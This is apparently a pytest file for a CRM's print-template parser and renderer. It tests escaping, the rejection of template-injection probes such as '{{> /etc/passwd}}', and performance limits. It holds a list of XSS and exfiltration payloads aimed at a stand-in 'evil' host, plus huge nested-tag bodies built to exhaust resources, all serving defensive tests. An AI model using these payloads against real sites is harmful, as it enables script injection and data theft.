"""The language of print templates reaches nothing but the document's texts, and ends (A-13, hostile cases 38, 39)."""

from contextlib import suppress
from time import process_time

import pytest

from crm.domain.prints.grammar import TemplateParser
from crm.domain.prints.rendering import Sheet, parse_template, render
from crm.errors import DomainError

NAMES = frozenset({"code", "customer.name", "notes", "label.code"})
LINES = frozenset({"line.name", "line.amount"})
SHEET = Sheet(
    {"code": "SO1", "customer.name": "<b>甲</b> & {{code}}", "notes": "", "label.code": "訂單編號"},
    [{"line.name": f"商品{n}", "line.amount": str(n)} for n in (1, 2)],
)


def mistakes(body: str) -> list[str]:
    return [problem.message % problem.values for problem in parse_template(body, NAMES, LINES)[1]]


def printed(body: str, sheet: Sheet = SHEET) -> str:
    assert mistakes(body) == []
    return render(parse_template(body, NAMES, LINES)[0], sheet)


def test_names_sections_and_remarks() -> None:
    assert printed("{{label.code}}: {{ code }}{{! not seen }}<!-- nor this -->") == "訂單編號: SO1"
    assert printed("{{#lines}}{{line.name}}={{line.amount}};{{/lines}}") == "商品1=1;商品2=2;"
    assert printed("{{#code}}A{{/code}}{{#notes}}B{{/notes}}{{^notes}}C{{/notes}}") == "AC"
    assert printed("{{^lines}}none{{/lines}}", Sheet(SHEET.texts)) == "none"


def test_values_are_text_and_never_read_again() -> None:
    assert printed("{{customer.name}}") == "&lt;b&gt;甲&lt;/b&gt; &amp; {{code}}"
    kept = printed(
        '<p title="{{customer.name}}" class="num">x</p>', Sheet({**SHEET.texts, "customer.name": '" onclick="x'})
    )
    assert "onclick=" not in kept.replace('" onclick="x', "").replace("&quot; onclick=&quot;x", "")


def test_a_table_may_leave_out_its_end_tags() -> None:
    body = "<table><thead><tr><th>A<tbody>{{#lines}}<tr><td>{{line.name}}<td>{{line.amount}}{{/lines}}</table>"
    assert printed(body).count("<td>") == 4


@pytest.mark.parametrize(
    ("body", "told"),
    [
        ("{{total.as_tuple}}", "Line 1: there is no field {{total.as_tuple}}."),
        ("a\nb {{ code.__class__ }}", "Line 2: there is no field {{code.__class__}}."),
        ("{{ 7*7 }}", "Line 1: there is no field {{7*7}}."),
        ("{{> /etc/passwd }}", "Line 1: {{> /etc/passwd}} is not possible"),
        ("{{=<% %>=}}", "Line 1: {{=<% %>=}} is not possible"),
        ("{{$x}}", "Line 1: {{$x}} is not possible"),
        ("{{{code}}}", "Line 1: {{{code}}}: values are always shown as text."),
        ("{{&code}}", "Line 1: {{&code}}: values are always shown as text."),
        ("{{line.name}}", "Line 1: {{line.name}} can only be used between"),
        ("{{#lines}}\n{{#lines}}{{/lines}}{{/lines}}", "Line 2: the section {{#lines}} is nested in itself."),
        ("{{#lines}}{{line.cost}}{{/lines}}", "Line 1: there is no field {{line.cost}}."),
        ("{{#code}}\n", "Line 1: the section {{#code}} is never closed."),
        ("{{#code}}{{#notes}}{{/code}}{{/notes}}", "Line 1: {{/code}} does not close the section"),
        ("{{/code}}", "Line 1: {{/code}} does not close the section"),
        ("{{code", "Line 1: these braces do not enclose a name."),
        ("<p\n>a < b</p>", "Line 2: this < does not start a valid tag."),
        ("<?php echo 1 ?>", "Line 1: this < does not start a valid tag."),
        ("<div>\n<b></div>", "Line 2: <b> opened in line 2 must be closed first."),
        ("<div>", "Line 1: <div> opened in line 1 must be closed first."),
        ("</div>", "Line 1: </div> has no matching opening tag."),
        ("{{#lines}}<div>{{/lines}}", "Line 1: <div> opened in line 1 must be closed first."),
        ("<div>{{#lines}}</div>{{/lines}}", "Line 1: </div> has no matching opening tag."),
        ("<p><b><div>x</div></b></p>", "Line 1: <b> opened in line 1 must be closed first."),
        ("<script>alert(1)", "Line 1: <script> is never closed."),
        ("<td {{code}}>", "Line 1: this < does not start a valid tag."),
        ('<td title="{{#code}}x{{/code}}">', "Line 1: there is no field {{#code}}."),
    ],
)
def test_what_is_not_possible_is_told_with_its_line(body: str, told: str) -> None:
    assert told in " ".join(mistakes(body))


def test_several_mistakes_are_told_at_once_but_not_all() -> None:
    assert len(mistakes("{{a}}\n{{b}}\n{{c}}")) == 3
    assert len(mistakes("{{a}}" * 50)) == 5


@pytest.mark.parametrize(
    "attack",
    [
        "<script>steal()</script>",
        "<ScRiPt src=//evil></sCrIpT >",
        "<style>* { background: url(http://evil/) }</style>",
        "<svg><script>1</script></svg>",
        '<iframe src="http://evil/"></iframe>',
        '<object data="x"></object>',
        '<img src="http://evil/x.png">',
        '<img src="data:text/html,x" onerror="steal()">',
        '<img src="data:image/svg+xml;base64,AAAA">',
        '<a href="javascript:steal()">x</a>',
        '<form action="http://evil/"><input name="a"></form>',
        '<meta http-equiv="refresh" content="0;url=http://evil/">',
        '<link rel="stylesheet" href="http://evil/">',
        '<base href="http://evil/">',
        '<div onclick="steal()" style="background:url(http://evil/);position:fixed">x</div>',
        '<p style="behavior:url(evil)">x</p>',
        '<td background="http://evil/">',
        '<div hx-get="/customers" data-x="1">x</div>',
    ],
)
def test_programs_and_addresses_are_stripped(attack: str) -> None:
    """Hostile case 39."""
    sheet = printed(f"<p>{{{{code}}}}</p>{attack}").lower()
    assert sheet.startswith("<p>so1</p>")
    for word in ("script", "evil", "steal", "on", "http", "hx-", "position", "svg", "<form", "<meta", "base64"):
        assert word not in sheet.removeprefix("<p>so1</p>"), sheet


def test_the_look_of_a_document_stays() -> None:
    body = (
        '<table class="lines mine" border="1" width="100%"><tr><td class="num" style="color: red; width: 20mm" '
        'colspan="2" bgcolor="#eee">1</td></tr></table><img src="data:image/png;base64,AAAA" alt="logo">'
    )
    kept = printed(body)
    for part in (
        'class="lines"',
        'border="1"',
        "color: red",
        "width: 20mm",
        'colspan="2"',
        "data:image/png;base64,AAAA",
    ):
        assert part.replace(" ", "") in kept.replace(" ", "")


HUGE = {
    "nested elements": "<div>" * 40_000,
    "nested lists": "<ul><li>" * 25_000,
    "nested fonts": "".join(f'<font color="{n}">' for n in range(10_000)),
    "unfinished tags": "<a " * 80_000,
    "unfinished remarks": "<!--" * 60_000,
    "unfinished scripts": "<script>" * 30_000,
    "blanks": "<a" + " " * 250_000,
    "braces": "{{" * 100_000,
    "fonts before blocks": "<p>" + "".join(f'<font color="{n}">' for n in range(30)) + "<div>x</div>" * 20_000,
    "every value": "{{notes}}" * 30_000,
    "every line again": "{{#lines}}{{line.name}}{{/lines}}" * 8_000,
    "every line for nothing": "{{#lines}}{{/lines}}" * 14_000,
    "every line in every line": "{{#lines}}{{#code}}{{#lines}}{{/lines}}{{/code}}{{/lines}}",
    "cells": "<table>" + "<tr><td>" * 30_000 + "</table>",
    "fonts without end": ("".join(f'<font color="{n}">' for n in range(30)) + "x" + "</font>" * 30) * 400,
}


@pytest.mark.parametrize("body", HUGE.values(), ids=HUGE)
def test_huge_templates_end_soon(body: str) -> None:
    """Hostile case 38: refused or printed, within two seconds, with two hundred long lines."""
    long = Sheet(
        dict.fromkeys(NAMES, "很長的內容" * 2_000), [dict.fromkeys(LINES, "很長的內容" * 40) for _ in range(200)]
    )
    began = process_time()
    parts, problems = parse_template(body, NAMES, LINES)
    if not problems:
        with suppress(DomainError):
            assert len(render(parts, long)) < 6_000_000
    assert process_time() - began < 2


def test_two_hundred_lines_are_printed_at_once() -> None:
    from crm.domain.prints.printed import PRINTED
    from crm.domain.prints.start import built_in_body

    kind = PRINTED["orders"]
    sheet = Sheet(dict.fromkeys(kind.names, "x"), [dict.fromkeys(kind.line_names, "商品名稱") for _ in range(200)])
    body = built_in_body("orders")
    began = process_time()
    html = render(parse_template(body, kind.names, kind.line_names)[0], sheet)
    assert process_time() - began < 1
    assert html.count("<tr>") > 200


def test_a_remark_that_never_ends_is_told_at_once() -> None:
    begun = process_time()
    reader = TemplateParser("<p>a</p>" + "<!--" * 70_000, (), ())
    reader.parse()
    assert ["&lt;" in problem.message for problem in reader.problems] == [True]
    assert process_time() - begun < 1
